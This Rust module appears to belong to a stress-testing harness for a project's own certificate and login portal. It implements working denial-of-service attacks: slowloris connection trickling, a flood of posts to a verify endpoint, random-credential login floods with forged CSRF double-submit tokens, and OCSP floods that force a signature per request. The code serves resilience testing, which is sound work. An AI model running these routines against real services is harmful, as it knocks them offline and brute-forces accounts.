//! The attacks of issue 20, each run until its `stop` flag is set (or its task aborted).

use std::sync::atomic::{AtomicBool, AtomicI64, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use rand::Rng as _;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::task::JoinSet;

use super::http::{Pool, Target};
use super::load::{open_loop, Recorder, Svc};

/// What slowloris connections went through, on one listener.
#[derive(Default, Debug)]
pub struct SlowStats {
    pub open: AtomicI64,
    pub max_open: AtomicI64,
    pub opened: AtomicU64,
    /// Closed (or answered) by the server while trickling.
    pub cut_by_server: AtomicU64,
    pub connect_failed: AtomicU64,
}

impl SlowStats {
    pub fn summary(&self) -> String {
        format!(
            "max open {}, opened {}, cut by the server {}, connect failures {}",
            self.max_open.load(Ordering::Relaxed),
            self.opened.load(Ordering::Relaxed),
            self.cut_by_server.load(Ordering::Relaxed),
            self.connect_failed.load(Ordering::Relaxed)
        )
    }
}

/// One listener's slowloris: `conns` connections opened at `ramp` per second, each sending a
/// request's headers one line per `tick` until `headers_until`, then `Content-Length` and the
/// body one byte per `tick`. A connection the server cuts is opened again (after 100 ms), as
/// a real attacker would.
#[allow(clippy::too_many_arguments)]
pub fn slowloris(
    tasks: &mut JoinSet<()>,
    target: Target,
    path: &'static str,
    content_type: &'static str,
    conns: usize,
    ramp: f64,
    tick: Duration,
    headers_until: Instant,
    stats: Arc<SlowStats>,
) {
    let start = Instant::now();
    for i in 0..conns {
        let target = target.clone();
        let stats = stats.clone();
        let at = start + Duration::from_secs_f64(i as f64 / ramp);
        tasks.spawn(async move {
            tokio::time::sleep_until(at.into()).await;
            loop {
                let cut = match &target {
                    Target::Plain(addr) => {
                        match tokio::time::timeout(
                            Duration::from_secs(5),
                            super::http::tcp(*addr, super::http::Source::Spread),
                        )
                        .await
                        {
                            Ok(Ok(s)) => {
                                trickle(s, path, content_type, tick, headers_until, &stats).await
                            }
                            _ => false,
                        }
                    }
                    Target::Tls(addr, cfg) => {
                        match tokio::time::timeout(
                            Duration::from_secs(5),
                            super::http::raw_tls(*addr, cfg.clone(), true),
                        )
                        .await
                        {
                            Ok(Ok(s)) => {
                                trickle(s, path, content_type, tick, headers_until, &stats).await
                            }
                            _ => false,
                        }
                    }
                };
                if !cut {
                    stats.connect_failed.fetch_add(1, Ordering::Relaxed);
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        });
    }
}

/// Trickles on one connection until the server cuts it (returns true).
async fn trickle<S: AsyncRead + AsyncWrite + Unpin>(
    mut s: S,
    path: &str,
    content_type: &str,
    tick: Duration,
    headers_until: Instant,
    stats: &SlowStats,
) -> bool {
    stats.opened.fetch_add(1, Ordering::Relaxed);
    let now_open = stats.open.fetch_add(1, Ordering::Relaxed) + 1;
    stats.max_open.fetch_max(now_open, Ordering::Relaxed);
    let mut in_body = false;
    let head =
        format!("POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {content_type}\r\n");
    let mut ok = s.write_all(head.as_bytes()).await.is_ok();
    let mut buf = [0u8; 512];
    let mut k = 0u64;
    while ok {
        if !in_body && Instant::now() >= headers_until {
            in_body = true;
            ok = s
                .write_all(b"Content-Length: 1000000\r\n\r\n")
                .await
                .is_ok();
            continue;
        }
        // Jitter, so that thousands of connections do not write in the same millisecond.
        let wait = tick.mul_f64(rand::thread_rng().gen_range(0.5..1.5));
        tokio::select! {
            _ = tokio::time::sleep(wait) => {
                k += 1;
                let piece = if in_body { "a".to_owned() } else { format!("X-Lent-{k}: {k}\r\n") };
                ok = s.write_all(piece.as_bytes()).await.is_ok() && s.flush().await.is_ok();
            }
            // The server answered (408, 400…) or closed: either way the connection is lost.
            _ = s.read(&mut buf) => ok = false,
        }
    }
    stats.open.fetch_sub(1, Ordering::Relaxed);
    stats.cut_by_server.fetch_add(1, Ordering::Relaxed);
    true
}

/// `clients` clients posting the hostile CMS to `/api/v1/verify` in a loop, each on its own
/// keep-alive connection, each answer awaited (up to 120 s) before the next request.
pub fn hostile_cms(
    tasks: &mut JoinSet<()>,
    rec: Arc<Recorder>,
    main: Target,
    body: Arc<String>,
    clients: usize,
) {
    for _ in 0..clients {
        let pool = Pool::attacker(main.clone(), 1);
        let (rec, body) = (rec.clone(), body.clone());
        tasks.spawn(async move {
            loop {
                let sent = Instant::now();
                rec.sent(Svc::AtkCms, sent);
                let r = tokio::time::timeout(
                    Duration::from_secs(120),
                    pool.post(
                        "/api/v1/verify",
                        "application/json",
                        &[],
                        body.as_bytes().to_vec(),
                    ),
                )
                .await;
                let out = match r {
                    Ok(Ok(r)) if r.status < 300 => Ok(sent.elapsed()),
                    Ok(Ok(r)) => Err(format!("HTTP {}", r.status)),
                    Ok(Err(e)) => Err(e),
                    Err(_) => Err("timeout".to_owned()),
                };
                let failed = out.is_err();
                rec.record(Svc::AtkCms, sent, out);
                if failed {
                    // A refused client tries again soon, not in a hot loop.
                    tokio::time::sleep(Duration::from_millis(50)).await;
                }
            }
        });
    }
}

fn random_login() -> String {
    let mut r = rand::thread_rng();
    let n: u64 = r.gen();
    format!("intrus.{n:016x}")
}

fn random_password() -> String {
    let mut r = rand::thread_rng();
    (0..20).map(|_| r.gen_range(b'a'..=b'z') as char).collect()
}

fn attacker_outcome(r: Result<super::http::Resp, String>) -> Result<(), String> {
    match r {
        Ok(r) if r.status < 300 => Ok(()),
        Ok(r) => Err(format!("HTTP {}", r.status)),
        Err(e) => Err(e),
    }
}

/// `rate` login attempts a second with random logins and passwords, half through the HTML
/// form (`POST /connexion`, with a pre-login cookie and its CSRF token: the form's
/// double-submit), half through the JSON API (`POST /api/v1/sessions`).
pub fn login_flood(
    tasks: &mut JoinSet<()>,
    rec: Arc<Recorder>,
    portal: Target,
    rate: f64,
    stop: Arc<AtomicBool>,
) {
    let form_pool = Pool::attacker(portal.clone(), 256);
    let api_pool = Pool::attacker(portal, 256);
    let (r1, s1) = (rec.clone(), stop.clone());
    tasks.spawn(open_loop(
        r1,
        Svc::AtkLoginForm,
        rate / 2.0,
        Duration::from_secs(10),
        1024,
        s1,
        move |_| {
            let pool = form_pool.clone();
            async move {
                let csrf: String = {
                    let mut r = rand::thread_rng();
                    (0..32).map(|_| format!("{:02x}", r.gen::<u8>())).collect()
                };
                let cookie = format!("{}={csrf}", ra_portal::PRELOGIN_COOKIE);
                let body = format!(
                    "csrf={csrf}&login={}&password={}&totp=123456",
                    random_login(),
                    random_password()
                );
                attacker_outcome(
                    pool.post(
                        "/connexion",
                        "application/x-www-form-urlencoded",
                        &[("cookie", &cookie)],
                        body,
                    )
                    .await,
                )
            }
        },
    ));
    tasks.spawn(open_loop(
        rec,
        Svc::AtkLoginApi,
        rate / 2.0,
        Duration::from_secs(10),
        1024,
        stop,
        move |_| {
            let pool = api_pool.clone();
            async move {
                let body = serde_json::json!({
                    "login": random_login(),
                    "password": random_password(),
                    "totp": "123456",
                })
                .to_string();
                attacker_outcome(
                    pool.post("/api/v1/sessions", "application/json", &[], body)
                        .await,
                )
            }
        },
    ));
}

/// `rate` OCSP POST requests a second, each with a fresh nonce (no cached answer can serve
/// it: one signature each) and a random serial under CA Personnes.
pub fn ocsp_flood(
    tasks: &mut JoinSet<()>,
    rec: Arc<Recorder>,
    main: Target,
    personnes: Arc<x509_cert::Certificate>,
    rate: f64,
    stop: Arc<AtomicBool>,
) {
    let pool = Pool::attacker(main, 512);
    tasks.spawn(open_loop(
        rec,
        Svc::AtkOcsp,
        rate,
        Duration::from_secs(10),
        1024,
        stop,
        move |_| {
            let pool = pool.clone();
            let (serial, nonce) = {
                let mut r = rand::thread_rng();
                let mut serial: [u8; 16] = r.gen();
                serial[0] = (serial[0] & 0x7f) | 0x01;
                (serial, r.gen::<[u8; 32]>())
            };
            let der = super::setup::ocsp_request(
                super::setup::cert_id(&personnes, &serial),
                Some(&nonce),
            );
            async move {
                attacker_outcome(
                    pool.post("/ocsp", "application/ocsp-request", &[], der)
                        .await,
                )
            }
        },
    ));
}
